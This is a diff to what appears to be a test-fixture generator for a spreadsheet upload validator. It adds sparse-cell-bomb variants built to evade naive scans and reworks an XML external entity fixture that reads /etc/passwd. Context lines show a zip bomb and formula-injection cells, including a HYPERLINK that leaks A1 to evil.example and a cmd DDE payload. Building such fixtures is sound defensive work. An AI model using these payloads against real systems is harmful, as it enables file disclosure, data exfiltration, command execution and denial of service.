@@ -236,7 +236,7 @@ def merged_cells(src: Sources) -> bytes:
 
 # -- other formats ------------------------------------------------------------------------------
 def excel_97_2003(src: Sources) -> bytes:
-    """A real .xls (BIFF8, made with xlwt) holding the template's rows."""
+    """A real .xls (BIFF8, made with xlwt) holding the template's first rows."""
     import xlwt
 
     book = xlwt.Workbook()
@@ -272,7 +272,7 @@ def macro_enabled(src: Sources) -> bytes:
             )
         return body
 
-    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE header: a VBA project
+    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # stands in for the VBA project
     return _rezip(_filled(src), change, {"xl/vbaProject.bin": vba})
 
 
@@ -334,7 +334,9 @@ ZIP_BOMB_MEMBER = 3 * 1024 * 1024  # test_defects lowers the cap to 1 MB for thi
 
 def zip_bomb(src: Sources) -> bytes:
     """A member of 3 MB of spaces, deflated to a few KB."""
-    return _rezip(_filled(src), lambda _n, body: body, {"xl/media/padding.xml": b" " * ZIP_BOMB_MEMBER})
+    return _rezip(
+        _filled(src), lambda _n, body: body, {"xl/media/padding.xml": b" " * ZIP_BOMB_MEMBER}
+    )
 
 
 def sparse_cell_bomb(src: Sources) -> bytes:
@@ -342,21 +344,73 @@ def sparse_cell_bomb(src: Sources) -> bytes:
     return _filled(src, {"XFD1048576": 1})
 
 
-def xml_external_entity(src: Sources) -> bytes:
-    """The Values sheet's XML declares an external entity and uses it in cell M2."""
+FAR_CELL = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+
+
+def _values_xml(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
+    """The same workbook with the XML of its Values sheet passed through ``edit``."""
+    path = _sheet_path(data, "Values")
+    return _rezip(data, lambda name, body: edit(body) if name == path else body, {})
+
+
+def _far_cell(far: bytes) -> Callable[[bytes], bytes]:
+    return lambda body: body.replace(b"</sheetData>", far + b"</sheetData>", 1)
+
+
+def sparse_cell_bomb_single_quotes(src: Sources) -> bytes:
+    """The far cell's references in single quotes, which XML allows and a scan for r="..."
+    would not see."""
+    return _values_xml(_filled(src), _far_cell(FAR_CELL.replace(b'"', b"'")))
+
+
+def sparse_cell_bomb_twice_referenced(src: Sources) -> bytes:
+    """A cell with two r attributes: a plain A11 first, then XFD1048576 (calamine takes the
+    last)."""
+    return _values_xml(
+        _filled(src), _far_cell(b'<row r="11"><c r="A11" r="XFD1048576"><v>1</v></c></row>')
+    )
+
+
+def sparse_cell_bomb_unlisted_part(src: Sources) -> bytes:
+    """The Values sheet (with the far cell) stored as worksheets/sheet3.dat: a part whose name
+    does not end in .xml is still read by calamine when the workbook points at it."""
+    data = _values_xml(_filled(src), _far_cell(FAR_CELL))
+    path = _sheet_path(data, "Values")
+    renamed = path[: -len(".xml")] + ".dat"
+    source = zipfile.ZipFile(io.BytesIO(data))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            body = source.read(info)
+            if info.filename == "xl/_rels/workbook.xml.rels":
+                body = body.replace(path[len("xl/") :].encode(), renamed[len("xl/") :].encode())
+            target.writestr(renamed if info.filename == path else info.filename, body)
+    return output.getvalue()
+
+
+def sparse_cell_bomb_case_twin(src: Sources) -> bytes:
+    """A second Values part whose name differs only in case, holding the far cell: calamine
+    may read either (it looks names up without regard to case)."""
     data = _filled(src)
     path = _sheet_path(data, "Values")
+    twin = path.replace("sheet", "Sheet")
+    body = zipfile.ZipFile(io.BytesIO(data)).read(path)
+    return _rezip(data, lambda _n, b: b, {twin: _far_cell(FAR_CELL)(body)})
 
-    def change(name: str, body: bytes) -> bytes:
-        if name != path:
-            return body
-        declaration = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-        body = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1" + declaration, body, count=1)
-        cell = re.compile(rb'<c r="M2"([^>]*?)(/>|>.*?</c>)', re.S)
+
+def xml_external_entity(src: Sources) -> bytes:
+    """The Values sheet's XML declares an external entity and uses it in cell M2."""
+    declaration = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    cell = re.compile(rb'<c r="M2"([^>]*?)(/>|>.*?</c>)', re.S)
+
+    def edit(body: bytes) -> bytes:
         assert cell.search(body), "no cell M2"
-        return cell.sub(rb'<c r="M2"\1 t="inlineStr"><is><t>&xxe;</t></is></c>', body, count=1)
+        body = cell.sub(rb'<c r="M2"\1 t="inlineStr"><is><t>&xxe;</t></is></c>', body, count=1)
+        head = re.match(rb"<\?xml[^>]*\?>", body)
+        at = head.end() if head else 0
+        return body[:at] + declaration + body[at:]
 
-    return _rezip(data, change, {})
+    return _values_xml(_filled(src), edit)
 
 
 def over_size_limit(src: Sources) -> bytes:
@@ -384,7 +438,7 @@ def csv_wrong_round(src: Sources) -> bytes:
 
 
 def csv_text_in_number_cell(src: Sources) -> bytes:
-    """"seventy" in the Value column (I: the CSV has Round in A) of row 3 (1-M1, men)."""
+    """ "seventy" in the Value column (I: the CSV has Round in A) of row 3 (1-M1, men)."""
 
     def edit(cells: list[str]) -> None:
         assert cells[1:3] == ["DHS-CBP", "1-M1"] and cells[5] == "sex=men", cells
@@ -395,7 +449,7 @@ def csv_text_in_number_cell(src: Sources) -> bytes:
 
 # -- formula injection ----------------------------------------------------------------------------
 INJECTED = {
-    "M2": "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+    "M2": '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "M3": "+cmd|' /C calc'!A0",
     "M4": "-2+3",
     "M6": "@SUM(A1:A2)",
@@ -447,6 +501,10 @@ DEFECTS: dict[str, Callable[[Sources], bytes]] = {
     "truncated.xlsx": truncated,
     "zip-bomb.xlsx": zip_bomb,
     "sparse-cell-bomb.xlsx": sparse_cell_bomb,
+    "sparse-cell-bomb-single-quotes.xlsx": sparse_cell_bomb_single_quotes,
+    "sparse-cell-bomb-twice-referenced.xlsx": sparse_cell_bomb_twice_referenced,
+    "sparse-cell-bomb-unlisted-part.xlsx": sparse_cell_bomb_unlisted_part,
+    "sparse-cell-bomb-case-twin.xlsx": sparse_cell_bomb_case_twin,
     "xml-external-entity.xlsx": xml_external_entity,
     "over-size-limit.xlsx": over_size_limit,
     "csv-wrong-round.csv": csv_wrong_round,
